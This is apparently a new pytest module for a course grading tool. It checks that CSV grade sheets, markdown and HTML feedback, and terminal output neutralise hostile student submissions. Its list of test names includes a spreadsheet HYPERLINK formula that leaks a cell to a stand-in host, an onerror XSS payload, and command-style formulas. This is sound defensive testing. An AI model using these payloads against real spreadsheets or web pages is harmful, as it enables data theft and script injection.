@@ -1,0 +1,222 @@
+"""What people open after grading hostile submissions: nothing in it runs, styles itself or lies.
+
+The submissions of ``tests/corpus/hostile_output`` are graded once by the real ``menace
+grade``, each under its own name and, answering rightly, under names that spreadsheets
+run as formulas or that are HTML. Then the real outputs are read as their readers read
+them: ``grades.csv`` and the CSV exports as a spreadsheet sees cells, the markdown
+feedback and Gradescope's ``output`` through a CommonMark parser with raw HTML allowed
+(the worst case), the HTML feedback and ``report.html`` through an HTML parser, and
+``menace check`` through a real terminal (a pty).
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import pty
+import re
+import shutil
+import subprocess
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from grade_support import REPO, RIGHT
+from markdown_it import MarkdownIt
+
+from menace_course.exports.gradescope_results import results_json
+from menace_course.models import SubmissionReport
+
+pytestmark = [pytest.mark.bwrap, pytest.mark.slow]
+
+CORPUS = REPO / "tests" / "corpus" / "hostile_output"
+TEMPLATES = REPO / "feedback_templates"
+#: Names a spreadsheet would run (OWASP's list: =, +, -, @, tab, carriage return), and HTML.
+FORMULA_NAMES = (
+    '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example?",A1),"click")',  # no "/" in a name
+    "+SUM(1,2)",
+    "-2+3+cmd",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "<img src=x onerror=alert(1)>",
+    "x;=1+1",
+)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
+#: The only headings the markdown feedback has (level 3 "❌ ..." names the first problem).
+OUR_HEADINGS = {"Examples from the challenge", "More checks", "Checks that run when your instructor grades"}
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """OUT of ``menace grade`` on the whole corpus, under hostile names too."""
+    root = tmp_path_factory.mktemp("hostile_output")
+    submissions, out = root / "submissions", root / "out"
+    submissions.mkdir()
+    for path in CORPUS.glob("*.py"):
+        shutil.copy(path, submissions / path.name)
+    for name in FORMULA_NAMES:
+        (submissions / f"{name}.py").write_text(RIGHT, encoding="utf-8")
+    argv = [sys.executable, "-m", "menace_course", "grade", str(submissions), "--challenge", "after_game"]
+    done = subprocess.run(
+        [*argv, "--out", str(out), "--course", str(REPO), "--jobs", "2"],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    assert "Traceback" not in done.stderr
+    return out
+
+
+def records(out: Path) -> list[dict]:
+    return [json.loads(line) for line in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]
+
+
+def assert_no_formula(path: Path) -> list[list[str]]:
+    """Every cell of a CSV as a spreadsheet sees it: none may start a formula."""
+    with path.open(newline="", encoding="utf-8-sig") as handle:
+        rows = list(csv.reader(handle))
+    for row in rows:
+        for cell in row:
+            assert not (cell.startswith(FORMULA_START) and not NUMBER.match(cell)), (path.name, cell)
+    # every cell is quoted, so a ";" inside one cannot start another where ";" separates
+    for line in path.read_text(encoding="utf-8-sig").splitlines():
+        if line:
+            assert line.startswith('"'), line
+    return rows
+
+
+def test_grades_csv_cells_never_start_a_formula_and_every_student_is_there(graded: Path) -> None:
+    rows = assert_no_formula(graded / "grades.csv")
+    students = [row[0] for row in rows[1:]]
+    assert len(students) == len(records(graded))
+    for name in FORMULA_NAMES:
+        shown = name.replace("\t", "\\t").replace("\r", "\\r")
+        assert (("'" + shown) if shown.startswith(FORMULA_START) else shown) in students, shown
+
+
+# -- markdown -------------------------------------------------------------------------------
+
+
+def check_markdown(text: str, passed: bool) -> None:
+    """Parse like a CommonMark renderer that allows raw HTML: only our structure may come out."""
+    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    tokens = parser.parse(text)
+    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in (t.children or [])}
+    assert not kinds & {"html_block", "html_inline", "link_open", "image"}, kinds
+    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
+    levels = [t.tag for t in tokens if t.type == "heading_open"]
+    assert levels[0] == "h2" and levels.count("h2") == 1, headings
+    for heading, level in zip(headings[1:], levels[1:], strict=True):
+        assert level == "h3" and (heading in OUR_HEADINGS or heading.startswith("❌ ")), heading
+        assert "✅" not in heading and "checks pass" not in heading, heading
+    inline = [t.children or [] for t in tokens]
+    bold = [kids[i + 1].content for kids in inline for i, c in enumerate(kids) if c.type == "strong_open"]
+    assert len(bold) == 1 and bold[0].startswith("All " if passed else "Score "), bold  # the summary only
+    html = parser.render(text)
+    assert "<img" not in html and "<script" not in html
+
+
+def test_markdown_feedback_keeps_student_text_inside_its_fences(graded: Path) -> None:
+    for record in records(graded):
+        key = record["grading"]["key"]
+        text = (graded / "feedback" / f"{key}.md").read_text(encoding="utf-8")
+        check_markdown(text, record["passed"])
+
+
+def test_gradescope_output_in_markdown_is_just_as_safe(graded: Path) -> None:
+    for record in records(graded):
+        results = results_json(SubmissionReport.from_dict(record), TEMPLATES, hidden="visible")
+        assert results["output_format"] == "md"
+        check_markdown(results["output"], record["passed"])
+        for test in results["tests"]:
+            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", test["output"]), test["output"]
+
+
+def test_the_forged_fence_is_shown_as_printed_text(graded: Path) -> None:
+    text = (graded / "feedback" / "md_fence_in_print.md").read_text(encoding="utf-8")
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
+    fences = [t.content for t in tokens if t.type == "fence"]
+    assert any("## ✅ All 15 checks pass" in f and "<img src=x onerror" in f for f in fences), fences
+
+
+def test_function_names_are_code_not_markup(graded: Path) -> None:
+    text = (graded / "feedback" / "no_function_markdown_names.md").read_text(encoding="utf-8")
+    html = MarkdownIt("commonmark").render(text)
+    assert "<code>_after_game_</code>" in html and "<code>www_evil_com</code>" in html
+    assert "<strong>" not in html.split("Functions found", 1)[1]
+
+
+# -- HTML -----------------------------------------------------------------------------------
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.handlers: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.handlers += [name for name, _ in attrs if name.startswith("on")]
+
+
+def tags_of(html: str) -> Tags:
+    parser = Tags()
+    parser.feed(html)
+    return parser
+
+
+def test_html_feedback_and_the_class_report_hold_no_student_markup(graded: Path) -> None:
+    pages = [graded / "report.html", *(graded / "feedback").glob("*.html")]
+    assert len(pages) == len(records(graded)) + 1
+    for page in pages:
+        found = tags_of(page.read_text(encoding="utf-8"))
+        assert not {"img", "script", "iframe"} & set(found.tags), (page.name, found.tags)
+        assert not found.handlers, page.name
+
+
+def test_html_feedback_keeps_the_line_breaks_of_what_it_shows(graded: Path) -> None:
+    html = (graded / "feedback" / "md_fence_in_print.html").read_text(encoding="utf-8")
+    block = html.split("<pre>", 1)[1].split("</pre>", 1)[0]
+    assert re.search(r"got: .*\nfirst difference: position 4", block), block
+
+
+# -- the terminal ---------------------------------------------------------------------------
+
+
+def on_a_terminal(*args: str) -> bytes:
+    """What ``menace`` writes to a real terminal (a pty), as the terminal receives it."""
+    controller, terminal = pty.openpty()
+    process = subprocess.Popen(
+        [sys.executable, "-m", "menace_course", *args], stdout=terminal, stderr=terminal, cwd=REPO
+    )
+    os.close(terminal)
+    received = b""
+    while True:
+        try:
+            chunk = os.read(controller, 65536)
+        except OSError:  # the other end closed
+            break
+        if not chunk:
+            break
+        received += chunk
+    process.wait(timeout=60)
+    os.close(controller)
+    return received
+
+
+@pytest.mark.parametrize("name", ["terminal_escapes", "md_names_in_exception", "md_at_load"])
+def test_a_terminal_receives_no_escape_but_our_own_colours(name: str) -> None:
+    received = on_a_terminal("check", str(CORPUS / f"{name}.py"), "--challenge", "after_game")
+    text = received.decode("utf-8")
+    escapes = set(re.findall(r"\x1b\[[0-9;?]*[A-Za-z]", text))
+    assert escapes <= {"\x1b[1;31m", "\x1b[32m", "\x1b[2m", "\x1b[0m"}, escapes  # rich's marks only
+    assert "\x1b]" not in text and "\r" not in text.replace("\r\n", "")
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
+    assert not any(line.startswith("✓ after_game passes") for line in plain.splitlines())
